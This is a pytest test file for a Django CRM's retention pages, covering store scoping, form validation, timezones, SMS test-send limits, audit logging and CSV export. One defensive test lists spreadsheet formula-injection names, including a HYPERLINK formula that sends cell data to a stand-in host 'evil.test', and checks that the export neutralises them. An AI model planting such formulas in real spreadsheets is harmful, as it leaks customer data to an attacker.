"""Managers' retention pages: scoped to their stores (404 otherwise), errors shown on the form, CSV export."""

import csv
import io
import re
import uuid
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from callbacks.telephony.memory import InMemoryBackend
from crm.models import AuditLog, Store
from retention.models import Campaign, Coupon, GiftTask, Segment
from retention.rules import BUILTINS
from retention.selectors import segment_members
from retention.services.campaigns import campaign_start
from retention.services.gifts import gift_create
from retention.services.segments import attributes_refresh, segment_create
from tests.factories import AgentFactory, CustomerFactory, OrderFactory

from .conftest import customer_with_orders
from .helpers import campaign_for, everyone, open_store

pytestmark = pytest.mark.django_db


def test_pages_of_another_store_are_not_found(manager_client):
    _store, client = manager_client
    other = open_store()
    segment = everyone(other)
    for url in (f"/retention/{other.pk}/segments/", f"/retention/{other.pk}/segments/{segment.pk}/",
                f"/retention/{other.pk}/segments/{segment.pk}.csv", f"/retention/{other.pk}/campaigns/",
                f"/retention/{other.pk}/gifts/"):  # fmt: skip
        assert client.get(url).status_code == 404, url


def test_an_agent_cannot_open_the_managers_pages():
    store = open_store()
    agent = AgentFactory(stores=[store])
    client = Client()
    client.force_login(agent.user)
    assert client.get(f"/retention/{store.pk}/segments/").status_code == 404


def renewed(form: dict) -> dict:
    """The same form as a fresh page renders it: with a new one-time token (crm.forms.SubmitOnceForm)."""
    return {**form, "submission": str(uuid.uuid4())}


def test_segment_built_in_a_form_lists_members_with_reasons_and_exports(manager_client):
    store, client = manager_client
    customer_with_orders(store, [263, 203, 143], name="林小姐")
    attributes_refresh(store=store)
    form = {
        "submission": str(uuid.uuid4()), "name": "久未回购",
        "rules-TOTAL_FORMS": "3", "rules-INITIAL_FORMS": "0", "rules-MIN_NUM_FORMS": "0", "rules-MAX_NUM_FORMS": "8",
        "rules-0-attribute": "overdue_days", "rules-0-op": "gte", "rules-0-value": "30",
    }  # fmt: skip
    answer = client.post(f"/retention/{store.pk}/segments/", form)
    segment = Segment.objects.get(store=store, name="久未回购")
    assert answer.status_code == 302
    page = client.get(f"/retention/{store.pk}/segments/{segment.pk}/").content.decode()
    assert "林小姐" in page and "the last purchase was 143 days ago, typical cycle 60" in page
    csv_text = b"".join(client.get(f"/retention/{store.pk}/segments/{segment.pk}.csv").streaming_content).decode()
    assert "林小姐" in csv_text and "typical cycle 60" in csv_text

    # Each a new form (a fresh token), not the first one sent again.
    bad = client.post(f"/retention/{store.pk}/segments/", {**renewed(form), "name": "x", "rules-0-value": "lots"})
    assert bad.status_code == 400 and "needs a whole number" in bad.content.decode()
    taken = client.post(f"/retention/{store.pk}/segments/", {**renewed(form), "name": "高价值回头客"})  # a built-in's
    assert taken.status_code == 400 and "is the name of a built-in segment" in taken.content.decode()


def test_a_rule_row_the_form_refuses_says_why_and_a_value_without_an_attribute_is_not_dropped(manager_client):
    # A rule's own field refused (a value over 100 characters, an unknown condition) answered 400 with the form as
    # it was and no message; a value typed in a row whose attribute was left at "—" was dropped without a word and
    # the segment saved without that rule.
    store, client = manager_client
    form = {
        "name": "大客户",
        "rules-TOTAL_FORMS": "3", "rules-INITIAL_FORMS": "0", "rules-MIN_NUM_FORMS": "0", "rules-MAX_NUM_FORMS": "8",
        "rules-0-attribute": "orders_count", "rules-0-op": "gte", "rules-0-value": "2",
    }  # fmt: skip
    for row, reason in (
        ({"rules-1-attribute": "region", "rules-1-op": "eq", "rules-1-value": "浙" * 101}, "at most 100 characters"),
        ({"rules-1-attribute": "region", "rules-1-op": "between", "rules-1-value": "浙江"}, "Select a valid choice"),
        ({"rules-1-attribute": "", "rules-1-op": "gte", "rules-1-value": "5000"}, "Choose an attribute"),
    ):
        answer = client.post(f"/retention/{store.pk}/segments/", {**form, **row})
        rule = re.search(r'data-testid="rule-1">(.*?)</div>', answer.content.decode(), re.S).group(1)
        assert answer.status_code == 400 and reason in rule, row
    assert not Segment.objects.filter(store=store, name="大客户").exists()


def test_a_segment_csv_never_hands_a_spreadsheet_a_formula(manager_client):
    """A customer's name comes from the order system (the customer chose it): one written as a formula must reach
    the manager's spreadsheet as the text it is, not run when the file is opened."""
    store, client = manager_client
    names = ['=HYPERLINK("http://evil.test/?"&A2,"查看")', "+86 138", "-1+1", "@SUM(A1)", "\t=1+1",
             # Full-width, as a Chinese or Japanese input method types them: East Asian Excel reads these as
             # formulas too (OWASP/www-community#1088).
             '＝HYPERLINK("http://evil.test/?"&A2,"查看")', "＋86 138", "－1+1", "＠SUM(A1)"]  # fmt: skip
    for name in names:
        customer_with_orders(store, [30], name=name)
    segment = everyone(store)
    response = client.get(f"/retention/{store.pk}/segments/{segment.pk}.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    written = {row[1] for row in rows[1:]}
    assert written == {"'" + name for name in names}


# The form's campaign runs 10-12 December 2026: the test runs before it, whatever day it is run on.
@time_machine.travel(datetime(2026, 12, 1, 2, 0, tzinfo=UTC), tick=True)
def test_campaign_form_errors_are_shown_and_nothing_is_saved(manager_client):
    store, client = manager_client
    customer_with_orders(store, [30])
    segment = everyone(store)
    form = {
        "submission": str(uuid.uuid4()),
        "name": "双十二", "segment": segment.pk, "purpose": "holiday", "channel": "sms",
        "wordings": "{name}您好，{coupon}", "offer_kind": "fixed_amount", "offer_amount": "50",
        "offer_min_spend": "300", "starts_at": "2026-12-10T10:00", "ends_at": "2026-12-12T10:00",
        "send_from": "10:00", "send_until": "20:00", "control_percent": "10", "attribution_days": "30",
    }  # fmt: skip
    answer = client.post(f"/retention/{store.pk}/campaigns/", form)
    assert answer.status_code == 400 and "Nothing fills {coupon}" in answer.content.decode()
    answer = client.post(
        f"/retention/{store.pk}/campaigns/", {**form, "wordings": "{name}您好", "ends_at": "2026-12-01T10:00"}
    )
    assert answer.status_code == 400 and "must end after it starts" in answer.content.decode()
    # A wording Twilio would refuse to send (a body past 1,600 characters, error 21617) is refused here.
    answer = client.post(f"/retention/{store.pk}/campaigns/", {**form, "wordings": "{name}您好" + "好" * 600})
    assert answer.status_code == 400 and "A message is limited to 500 characters." in answer.content.decode()
    assert not Campaign.objects.exists()
    answer = client.post(f"/retention/{store.pk}/campaigns/", {**form, "wordings": "{name}您好，{offer}"})
    campaign = Campaign.objects.get()
    assert answer.status_code == 302
    assert campaign.starts_at == datetime(2026, 12, 10, 10, 0, tzinfo=store.tzinfo)  # the form's time is the store's


def test_a_new_campaign_form_starts_now_in_the_stores_time(manager_client):
    store, client = manager_client
    Store.objects.filter(pk=store.pk).update(timezone="Asia/Shanghai")
    with time_machine.travel(datetime(2026, 12, 1, 2, 0, tzinfo=UTC), tick=False):  # 10:00 in Shanghai
        page = client.get(f"/retention/{store.pk}/campaigns/").content.decode()
    assert 'name="starts_at" value="2026-12-01T10:00"' in page
    assert 'name="ends_at" value="2026-12-15T10:00"' in page


# The form's campaign runs 10-12 December 2026: the test runs before it, whatever day it is run on.
@time_machine.travel(datetime(2026, 12, 1, 2, 0, tzinfo=UTC), tick=True)
def test_the_campaign_page_shows_its_start_and_end_in_the_stores_time(manager_client):
    store, client = manager_client
    Store.objects.filter(pk=store.pk).update(timezone="Asia/Shanghai")
    store.refresh_from_db()
    customer_with_orders(store, [30])
    shanghai = store.tzinfo
    campaign = campaign_for(
        store,
        everyone(store),
        starts_at=datetime(2026, 12, 10, 10, 0, tzinfo=shanghai),
        ends_at=datetime(2026, 12, 12, 20, 0, tzinfo=shanghai),
    )
    page = client.get(f"/retention/{store.pk}/campaigns/{campaign.pk}/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "From Dec. 10, 2026, 10 a.m. to Dec. 12, 2026, 8 p.m., sending" in page  # not 2 a.m. and noon (UTC)


def test_pages_are_translated_to_chinese(manager_client):
    store, client = manager_client
    customer_with_orders(store, [263, 203, 143])
    everyone(store)
    page = client.get(f"/retention/{store.pk}/segments/", HTTP_ACCEPT_LANGUAGE="zh-hans").content.decode()
    assert "客户分群" in page and "流失（超出回购周期）" in page and "立即刷新" in page
    assert "生日月份 等于 下月" in page and "next_month" not in page  # the birthday segment's rule, in words
    lapsed = Segment.objects.get(store=store, builtin="lapsed")
    page = client.get(f"/retention/{store.pk}/segments/{lapsed.pk}/", HTTP_ACCEPT_LANGUAGE="zh-hans").content.decode()
    assert "上次购买在143天前，典型回购周期60天" in page


def test_no_inline_script_or_style_on_retention_pages(manager_client):
    store, client = manager_client
    customer_with_orders(store, [30])
    everyone(store)
    for url in (
        f"/retention/{store.pk}/segments/",
        f"/retention/{store.pk}/campaigns/",
        f"/retention/{store.pk}/gifts/",
    ):
        page = client.get(url).content.decode()
        body = page[page.index("<main>") :]
        assert "<script" not in body and "<style" not in body and "style=" not in body and "onclick" not in body


def test_a_campaign_start_before_the_calendar_begins_in_utc_is_refused_and_the_page_still_opens(manager_client):
    # 0001-01-01 00:00 in Shanghai is a moment of year 0 in UTC: no datetime can hold it once stored.
    store, client = manager_client
    Store.objects.filter(pk=store.pk).update(timezone="Asia/Shanghai")
    customer_with_orders(store, [30])
    form = {
        "submission": str(uuid.uuid4()),
        "name": "双十二", "segment": everyone(store).pk, "purpose": "holiday", "channel": "sms",
        "wordings": "{name}您好", "offer_kind": "none", "offer_amount": "0", "offer_min_spend": "0",
        "starts_at": "0001-01-01T00:00", "ends_at": "2026-12-12T10:00",
        "send_from": "10:00", "send_until": "20:00", "control_percent": "10", "attribution_days": "30",
    }  # fmt: skip
    answer = client.post(f"/retention/{store.pk}/campaigns/", form)
    assert answer.status_code == 400 and "Enter a valid date/time." in answer.content.decode()
    assert not Campaign.objects.exists()
    assert client.get(f"/retention/{store.pk}/campaigns/").status_code == 200


@pytest.mark.parametrize("value", ["NaN", "Infinity", "-inf", "sNaN", "５００", "١٠٠", "1_000"])
def test_a_segment_rule_of_not_a_number_is_refused_and_the_segments_page_still_opens(manager_client, value):
    store, client = manager_client
    form = {
        "submission": str(uuid.uuid4()), "name": "高消费", "rules-TOTAL_FORMS": "3", "rules-INITIAL_FORMS": "0",
        "rules-0-attribute": "total_spent", "rules-0-op": "gte", "rules-0-value": value,
    }  # fmt: skip
    answer = client.post(f"/retention/{store.pk}/segments/", form)
    assert answer.status_code == 400 and "needs a number" in answer.content.decode()
    assert not Segment.objects.filter(name="高消费").exists()
    assert client.get(f"/retention/{store.pk}/segments/").status_code == 200


def test_viewing_the_retention_pages_writes_nothing(manager_client):
    # The built-in segments come with the store and coupons are redeemed as orders come in: a page only reads.
    store, client = manager_client
    assert set(Segment.objects.filter(store=store).values_list("builtin", flat=True)) == set(BUILTINS)
    customer = customer_with_orders(store, [30])
    campaign = campaign_for(store, everyone(store), offer_kind="coupon_pool", coupon_codes=("SPRING-01",),
                            wordings=["{name}您好，送您{offer}优惠券{coupon}"])  # fmt: skip
    campaign_start(campaign=campaign)
    OrderFactory(customer=customer, coupon_code="SPRING-01")  # straight into the table, past the order API
    for url in (
        f"/retention/{store.pk}/segments/",
        f"/retention/{store.pk}/campaigns/",
        f"/retention/{store.pk}/campaigns/{campaign.pk}/",
        f"/retention/{store.pk}/gifts/",
    ):
        with CaptureQueriesContext(connection) as queries:
            assert client.get(url).status_code == 200, url
        writes = [q["sql"] for q in queries if q["sql"].lstrip().split()[0].upper() in {"INSERT", "UPDATE", "DELETE"}]
        assert writes == [], url
    assert Coupon.objects.get(campaign=campaign).redeemed_order is None


def test_a_segment_csv_is_headed_in_the_managers_language(manager_client):
    """The columns were headed by their codes (customer_external_id, total_spent, days_since_last ...) on a
    Chinese manager's export, and without a BOM the spreadsheet read the Chinese names as mojibake."""
    store, client = manager_client
    customer_with_orders(store, [30], name="林小姐")
    segment = everyone(store)
    client.cookies["django_language"] = "zh-hans"
    body = b"".join(client.get(f"/retention/{store.pk}/segments/{segment.pk}.csv").streaming_content)
    assert body.startswith("\ufeff".encode())
    header = next(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert header == [
        "顾客外部编号",
        "姓名",
        "订单",
        "消费（CNY）",
        "距上次购买天数",
        "回购周期（天）",
        "RFM",
        "会员等级",
        "入选原因",
    ]


def _sent_to(agent) -> dict:
    """The test send form as a page sends it: a recipient and the form's one-time token."""
    return {"recipient": agent.pk, "submission": str(uuid.uuid4())}


@pytest.fixture
def test_send_setup(manager_client):
    """A draft campaign, the manager's own phone, a colleague serving the store, and an agent of another store."""
    store, client = manager_client
    customer_with_orders(store, [30])
    campaign = campaign_for(store, everyone(store))
    manager = store.agents.get()
    manager.phone = "+8613900000011"
    manager.save(update_fields=["phone"])
    colleague = AgentFactory(stores=[store], phone="+8613900000012", user__username="a-colleague")
    stranger = AgentFactory(stores=[open_store()], phone="+8613900000013")
    return store, client, campaign, manager, colleague, stranger


def test_a_test_message_goes_to_the_senders_own_phone_first(test_send_setup):
    store, client, campaign, manager, colleague, _stranger = test_send_setup
    page = client.get(f"/retention/{store.pk}/campaigns/{campaign.pk}/").content.decode()
    form = page[page.index('id="test-send"') :]
    # The sender's own phone first (the one a browser shows chosen), no one from another store.
    assert re.findall(r'<option value="(\d+)"', form) == [str(manager.pk), str(colleague.pk)]
    assert "139****0011" in form and "+8613900000011" not in form  # phones shown masked

    answer = client.post(f"/retention/{store.pk}/campaigns/{campaign.pk}/test/", _sent_to(manager))
    assert answer.status_code == 200 and 'data-testid="test-sent"' in answer.content.decode()
    assert [m.to for m in InMemoryBackend.messages] == ["+8613900000011"]
    entry = AuditLog.objects.get(action="campaign_test_send")
    assert (entry.actor, entry.store, entry.target) == (manager.user, store, campaign.name)

    answer = client.post(f"/retention/{store.pk}/campaigns/{campaign.pk}/test/", _sent_to(colleague))
    assert answer.status_code == 200
    assert [m.to for m in InMemoryBackend.messages] == ["+8613900000011", "+8613900000012"]


def test_a_test_message_goes_to_no_one_outside_the_store(test_send_setup):
    store, client, campaign, _manager, _colleague, stranger = test_send_setup
    url = f"/retention/{store.pk}/campaigns/{campaign.pk}/test/"
    # What the form once took: any phone number at all.
    answer = client.post(url, {"phone": "+8613800009999", "submission": str(uuid.uuid4())})
    assert answer.status_code == 400
    answer = client.post(url, _sent_to(stranger))
    assert answer.status_code == 400 and "serving this store who has a phone on file" in answer.content.decode()
    assert InMemoryBackend.messages == []
    assert not AuditLog.objects.filter(action="campaign_test_send").exists()


def test_a_test_message_form_sent_again_to_another_campaign_is_refused_and_sends_nothing(test_send_setup):
    # The token of campaign A's test form, sent again to campaign B's address, was taken for a double click: B's
    # text was shown as sent, and nothing went out.
    store, client, campaign, manager, _colleague, _stranger = test_send_setup
    other = campaign_for(store, campaign.segment, name="双十二")
    form = _sent_to(manager)
    assert client.post(f"/retention/{store.pk}/campaigns/{campaign.pk}/test/", form).status_code == 200

    crafted = client.post(f"/retention/{store.pk}/campaigns/{other.pk}/test/", form, HTTP_ACCEPT_LANGUAGE="en")

    assert crafted.status_code == 409
    assert "already sent for another campaign" in crafted.content.decode()
    assert 'data-testid="test-sent"' not in crafted.content.decode()
    assert len(InMemoryBackend.messages) == 1
    assert AuditLog.objects.filter(action="campaign_test_send").count() == 1


def test_test_messages_are_limited_per_sender_and_hour(test_send_setup, settings):
    store, client, campaign, manager, _colleague, _stranger = test_send_setup
    settings.RETENTION_TEST_SENDS_PER_HOUR = 3
    url = f"/retention/{store.pk}/campaigns/{campaign.pk}/test/"
    start = datetime.now(UTC)
    with time_machine.travel(start, tick=False):
        for _ in range(3):
            assert client.post(url, _sent_to(manager)).status_code == 200
        refused = client.post(url, _sent_to(manager))
    assert refused.status_code == 429
    assert "3 test messages in the last hour" in refused.content.decode()
    assert len(InMemoryBackend.messages) == 3
    with time_machine.travel(start + timedelta(minutes=61), tick=False):
        assert client.post(url, _sent_to(manager)).status_code == 200
    assert len(InMemoryBackend.messages) == 4


def test_the_segment_list_counts_every_segment_in_one_query(manager_client):
    store, client = manager_client
    for days in ([10], [200, 100], [30, 20, 10]):
        customer_with_orders(store, days)
    attributes_refresh(store=store)
    segment_create(store=store, name="两单以上", rules=[{"attribute": "orders_count", "op": "gte", "value": 2}])
    with CaptureQueriesContext(connection) as few:
        client.get(f"/retention/{store.pk}/segments/")
    for n in range(12):
        segment_create(store=store, name=f"第{n}组", rules=[{"attribute": "orders_count", "op": "gte", "value": n}])
    with CaptureQueriesContext(connection) as many:
        answer = client.get(f"/retention/{store.pk}/segments/")
    assert len(many) == len(few)
    # Each size as a count of its own members says (built-in segments whose rules match nothing count 0).
    for segment in Segment.objects.filter(store=store):
        assert f'data-testid="size-{segment.pk}">{segment_members(segment=segment).count()}<' in answer.content.decode()


def _gift_tasks(store, n: int, *, status: str = "open", days: int = 7, gift=None) -> None:
    day = timezone.localdate() + timedelta(days=days)
    GiftTask.objects.bulk_create(
        GiftTask(store=store, customer=CustomerFactory(store=store), occasion_date=day, status=status, gift=gift)
        for _ in range(n)
    )


def test_the_gift_page_costs_the_same_queries_however_many_tasks_it_lists(manager_client):
    store, client = manager_client
    gift_create(store=store, name="真丝方巾")
    gift_create(store=store, name="茶具")
    _gift_tasks(store, 3)
    with CaptureQueriesContext(connection) as few:
        client.get(f"/retention/{store.pk}/gifts/")
    _gift_tasks(store, 27)
    with CaptureQueriesContext(connection) as many:
        answer = client.get(f"/retention/{store.pk}/gifts/")
    assert answer.content.decode().count("真丝方巾</option>") == 30
    assert len(many) == len(few)


def test_the_gift_page_lists_the_open_tasks_before_a_year_of_sent_ones(manager_client):
    store, client = manager_client
    scarf = gift_create(store=store, name="真丝方巾")
    _gift_tasks(store, 250, status="sent", days=-300, gift=scarf)
    _gift_tasks(store, 1, days=5)
    waiting = GiftTask.objects.get(status="open")
    answer = client.get(f"/retention/{store.pk}/gifts/")
    assert f'id="gift-task-{waiting.pk}"' in answer.content.decode()


def test_the_campaign_page_stops_a_running_campaign_once(manager_client):
    store, client = manager_client
    customer_with_orders(store, [30])
    campaign = campaign_for(store, everyone(store))
    campaign_start(campaign=campaign)
    assert 'data-testid="stop"' in client.get(f"/retention/{store.pk}/campaigns/{campaign.pk}/").text

    first = client.post(f"/retention/{store.pk}/campaigns/{campaign.pk}/stop/")
    again = client.post(f"/retention/{store.pk}/campaigns/{campaign.pk}/stop/")  # a double click

    assert first.status_code == 200 and 'data-testid="stop"' not in first.text
    assert again.status_code == 409 and "Only a running campaign can be stopped" in again.text
    other = open_store()
    assert client.post(f"/retention/{other.pk}/campaigns/{campaign.pk}/stop/").status_code == 404


def test_a_segments_csv_is_audited_like_the_reports(manager_client):
    """The segment CSV lists customers by name with what they spent, yet downloading it left no trace: the report's
    CSV, which holds only figures, was in the audit log and this one was not."""
    store, client = manager_client
    for index in range(3):
        customer_with_orders(store, [30], name=f"顾客{index}")
    segment = everyone(store)

    body = b"".join(client.get(f"/retention/{store.pk}/segments/{segment.pk}.csv").streaming_content)

    assert body.count(b"\n") == 4
    entry = AuditLog.objects.get(action="segment_exported")
    manager_id = int(client.session["_auth_user_id"])
    assert (entry.store_id, entry.actor_id, entry.target) == (store.pk, manager_id, segment.name)
    assert entry.data == {"segment": segment.pk, "rows": 3}
    client.cookies["django_language"] = "zh-hans"
    assert "导出客户分群" in client.get("/manager/audit/").text
